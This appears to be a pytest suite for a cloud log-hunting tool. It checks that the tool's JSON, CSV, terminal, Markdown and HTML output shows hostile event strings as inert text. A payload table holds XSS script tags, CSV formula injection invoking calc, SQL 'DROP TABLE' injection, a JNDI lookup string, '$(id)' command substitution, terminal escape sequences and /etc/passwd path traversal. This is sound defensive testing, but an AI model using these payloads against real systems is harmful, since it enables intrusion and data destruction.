"""Events whose every string carries something that would act: each output is read by a parser or a
terminal of its own kind, and must show it as text.

What is shown is held against a store of harmless events of the same shape: the same elements, rows
and cells, with other text in them.
"""

import csv
import io
import json
import os
import pty
import subprocess

import html5lib
import pyte
import pytest
from markdown_it import MarkdownIt

from corpus import launches
from huntdb import load, rows, run

AS_OF = ["--as-of", "2026-11-23"]
PAYLOADS = {
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[6n\x9b31m\x1bP+q\x1b\\\x08\r\nroot",
    "html": "</td></pre><script>alert(1)</script><img src=x onerror=alert(1)><!--<a href='javascript:1'>x</a>",
    "entities": "&lt;b&gt;&#60;i&#62;<svg/onload=1>\"'`=",
    "markdown": "[x](javascript:1) ![y](http://192.0.2.9/p) `|` **b** <b>h</b> http://192.0.2.9/ \n# head\n---\n| a | b |",
    "markdown link": "<http://192.0.2.9/> [r]: http://192.0.2.9 \\| ~~s~~ __u__ &copy; *e*",
    "formula": "=cmd|'/C calc'!A0",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula tab": "\t=1+1",
    "formula wide": "\uff1d1+1",
    "sql": "'; DROP TABLE launch_events; --\" OR 1=1 /*",
    "format string": "%s%s%n%x%p {0} ${jndi:ldap://192.0.2.9/x} $(id) `id`",
    "path": "../../../../etc/passwd\0/x",
    "direction": "\u202etxet\u202c \u2066x\u2069 \u200f\u061c\ufeff\u2028\u2029",
    "nul": "a\0b",
    "surrogate": "\ud800x\udfff",
    "tags": "\U000e0041\U000e007f\u200b\u2060",
    "million": "x" * 1_000_000,
}


def replaced(value, text):
    """The value with every string in it but the keys replaced."""
    if isinstance(value, dict):
        return {key: replaced(child, text) for key, child in value.items()}
    if isinstance(value, list):
        return [replaced(child, text) for child in value]
    return text if isinstance(value, str) else value


def hostile(record, payload, number):
    """A launch that is one still, and whose every other string carries the payload."""
    whole = json.loads(record)
    if len(payload) > 10_000:
        # As many as fit into the largest record that is read.
        result = {key: payload if isinstance(value, str) else value for key, value in whole.items()}
        result["requestParameters"]["instanceType"] = payload
    else:
        result = replaced(whole, payload)
    for key in ("eventSource", "eventName", "eventTime"):
        result[key] = whole[key]
    result["eventID"] = f"{number} {payload}"
    result["userIdentity"]["type"] = whole["userIdentity"]["type"]
    return json.dumps(result)


def make(program, folder, payloads):
    folder.mkdir()
    week = [r for r in launches() if '"eventTime":"2026-11-1' in r or '"eventTime":"2026-11-20' in r]
    shapes = [r for r in week if max(item["maxCount"] for item in json.loads(r)[
        "requestParameters"]["instancesSet"]["items"]) >= 10 and '"eventTime":"2026-11-0' not in r][-6:]
    text = [hostile(shape, payload, f"{n}-{m}") for n, payload in enumerate(payloads)
            for m, shape in enumerate(shapes if len(payload) < 10_000 else shapes[:1])]
    (folder / "log").write_text("\n".join(text))
    # A name that is hostile too, and a record that ends up in the list of problems.
    (folder / "b\x1b[2J|<b>=1").write_text('{"eventVersion":"</td><script>\x1b[2J|`\n')
    store = folder / "hunt.db"
    summary = load(program, store, folder)
    assert summary["events_new"] == len(text), summary["problems"]
    return store


@pytest.fixture(scope="module")
def store(program, tmp_path_factory):
    return make(program, tmp_path_factory.mktemp("hostile") / "x", list(PAYLOADS.values()))


@pytest.fixture(scope="module")
def harmless(program, tmp_path_factory):
    names = [f"name-{n}" for n in range(len(PAYLOADS))]
    return make(program, tmp_path_factory.mktemp("harmless") / "x", names)


SELECT = "SELECT * FROM launch_attempts ORDER BY event_id"
SMALL = "SELECT * FROM launch_attempts WHERE length(user_agent) < 1000 ORDER BY event_id"


def query(program, store, form, sql=SELECT, *options):
    done = run(program, "query", "--db", store, "--format", form, *AS_OF, *options, sql)
    assert done.status == 0, done.errors
    return done


def exact(text):
    """A string as it is kept: halves of surrogate pairs cannot be."""
    return "".join("\ufffd" if "\ud800" <= c <= "\udfff" else c for c in text)


def test_json_gives_every_string_back(program, store):
    found = {row["user_agent"] for row in json.loads(query(program, store, "json").output)}
    assert found == {exact(payload) for payload in PAYLOADS.values()}
    lines = query(program, store, "jsonl").output.split(b"\n")
    assert {json.loads(line)["user_agent"] for line in lines if line} == found
    kept = rows(program, store, "SELECT record_json FROM event_records")
    assert {json.loads(row["record_json"])["userAgent"] for row in kept} == set(PAYLOADS.values())


def test_csv_gives_every_string_back_and_nothing_a_spreadsheet_runs(program, store):
    csv.field_size_limit(10_000_000)
    header, *raw = csv.reader(io.StringIO(query(program, store, "csv", SELECT, "--raw").text, newline=""))
    same, *guarded = csv.reader(io.StringIO(query(program, store, "csv").text, newline=""))
    assert header == same and len(raw) == len(guarded)
    assert {row[header.index("user_agent")] for row in raw} == {exact(p) for p in PAYLOADS.values()}
    for before, after in zip(raw, guarded):
        assert len(before) == len(after) == len(header)
        for cell, shown in zip(before, after):
            assert shown in (cell, "'" + cell)
            assert not shown.startswith(("=", "+", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
            assert not shown.startswith("-") or float(shown) is not None


def test_tsv_keeps_every_row_on_its_line(program, store):
    lines = query(program, store, "tsv").text.rstrip("\n").split("\n")
    assert len(lines) == 1 + 6 * (len(PAYLOADS) - 1) + 1
    assert {line.count("\t") for line in lines} == {lines[0].count("\t")}
    assert not any(cell[:1] in ("=", "+", "@", "\r") for line in lines for cell in line.split("\t"))


# --------------------------------------------------------------------------------------- terminals

class Watched(pyte.Screen):
    """A terminal that notes everything but text that it is asked to do."""

    def __init__(self):
        self.orders = set()
        super().__init__(400, 50)

    def __getattribute__(self, name):
        # The stream asks the screen for each order by its name.
        if name in Watched.watched:
            object.__getattribute__(self, "orders").add(name)
        return object.__getattribute__(self, name)

    watched = frozenset(pyte.Stream.events) - {"draw", "linefeed", "carriage_return"}


def on_terminal(program, *arguments):
    """What the program writes to a terminal, as bytes."""
    master, slave = pty.openpty()
    environment = dict(os.environ, TERM="xterm-256color", COLUMNS="200")
    environment.pop("NO_COLOR", None)
    process = subprocess.Popen(
        [program, *map(str, arguments)], stdin=slave, stdout=slave, stderr=slave, env=environment)
    os.close(slave)
    shown = b""
    while True:
        try:
            piece = os.read(master, 1 << 16)
        except OSError:
            break
        if not piece:
            break
        shown += piece
    os.close(master)
    process.wait()
    return shown


COMMANDS = {
    "table": ["query", SMALL], "vertical": ["query", "--format", "vertical", SMALL],
    "problems": ["query", "SELECT * FROM import_problems"],
    "records": ["query", "--format", "vertical", "SELECT record_json FROM event_records LIMIT 60"],
    "error": ["query", "SELECT '\x1b[2J' FROM \"\x1b]0;x\x07\""],
    "report": ["report"], "status": ["status"], "event": ["event", "0-0 " + PAYLOADS["terminal"]],
    "check": ["check"], "import": ["import", "{folder}"], "missing": ["event", "\x1b[2J"],
}


@pytest.mark.parametrize("name", list(COMMANDS))
def test_a_terminal_is_asked_for_nothing_but_text_and_colour(program, store, harmless, name):
    def watch(at):
        command, *rest = [word.replace("{folder}", str(at.parent)) for word in COMMANDS[name]]
        hunt = AS_OF if command in ("query", "report") else []
        shown = on_terminal(program, command, "--db", at, *hunt, *rest)
        assert len(shown) > 10
        screen = Watched()
        stream = pyte.ByteStream(screen)
        screen.orders.clear()
        stream.feed(shown)
        assert screen.title == "" and not shown.count(b"\x07")
        return screen.orders, shown
    orders, shown = watch(store)
    assert orders <= watch(harmless)[0] | {"select_graphic_rendition"}, orders
    assert b"\xe2\x80\xae" not in shown and b"\xe2\x81\xa6" not in shown


# ---------------------------------------------------------------------------------- HTML, Markdown

def structure(html):
    """What a browser would make of it: elements with their attributes, and the texts of cells."""
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    elements = set()
    for element in tree.iter():
        if not isinstance(element.tag, str):
            # An empty one says nothing; the report puts it behind an @, so that it names nobody.
            if (element.text or "").strip():
                elements.add("comment")
            continue
        elements.add(element.tag)
        elements.update(f"{element.tag}@{name}" for name in element.attrib)
    cells = ["".join(cell.itertext()) for cell in tree.iter("td")]
    shape = [len(row.findall("td") + row.findall("th")) for row in tree.iter("tr")]
    return elements, cells, shape


def rendered(markdown):
    """As a page shows it that lets HTML through and knows GitHub's tables."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)


def test_markdown_of_a_query_is_one_table_of_text(program, store, harmless):
    found, cells, shape = structure(rendered(query(program, store, "markdown", SMALL).text))
    plain, _, _ = structure(rendered(query(program, harmless, "markdown", SMALL).text))
    assert found <= plain, found - plain
    assert len(set(shape)) == 1 and len(shape) == 1 + 6 * (len(PAYLOADS) - 1)
    assert any("<script>alert(1)</script>" in cell for cell in cells)
    assert any("[x](javascript:1)" in cell for cell in cells)


def test_markdown_of_the_report_has_no_elements_of_its_events(program, store, harmless):
    found, cells, shape = structure(rendered(run(program, "report", "--db", store, *AS_OF, "--format", "markdown").text))
    plain, _, _ = structure(rendered(run(program, "report", "--db", harmless, *AS_OF, "--format", "markdown").text))
    assert found <= plain, found - plain
    assert any("<script>alert(1)</script>" in cell for cell in cells)


def test_html_of_the_report_has_no_elements_of_its_events(program, store, harmless):
    page = run(program, "report", "--db", store, *AS_OF, "--format", "html")
    if page.status == 2:
        pytest.skip("the report has no HTML yet")
    other = run(program, "report", "--db", harmless, *AS_OF, "--format", "html")
    found, _, _ = structure(page.text)
    plain, _, _ = structure(other.text)
    assert found <= plain, found - plain
    tree = html5lib.parse(page.text, treebuilder="etree", namespaceHTMLElements=False)
    assert any("<script>alert(1)</script>" in "".join(element.itertext()) for element in tree.iter("td"))
    for element in tree.iter():
        for name, value in element.attrib.items():
            assert not value.lstrip().lower().startswith(("javascript:", "data:text", "http://192.0.2.9")), (name, value)


def test_the_report_as_json_and_csv_parses(program, store):
    for form, parse in (("json", json.loads), ("csv", lambda t: list(csv.reader(io.StringIO(t, newline=""))))):
        done = run(program, "report", "--db", store, *AS_OF, "--format", form)
        if done.status == 2:
            continue
        assert done.status == 0 and parse(done.text)


def test_nothing_was_written_where_a_path_led(store):
    names = {path.name for path in store.parent.iterdir()}
    assert names <= {"log", "b\x1b[2J|<b>=1", "hunt.db", "hunt.db-wal", "hunt.db-shm"}


def test_an_output_file_goes_where_it_is_told(program, store, tmp_path):
    done = run(program, "query", "--db", store, "--format", "json", "-o", tmp_path / "out", SMALL)
    assert done.status == 0 and [path.name for path in tmp_path.iterdir()] == ["out"]
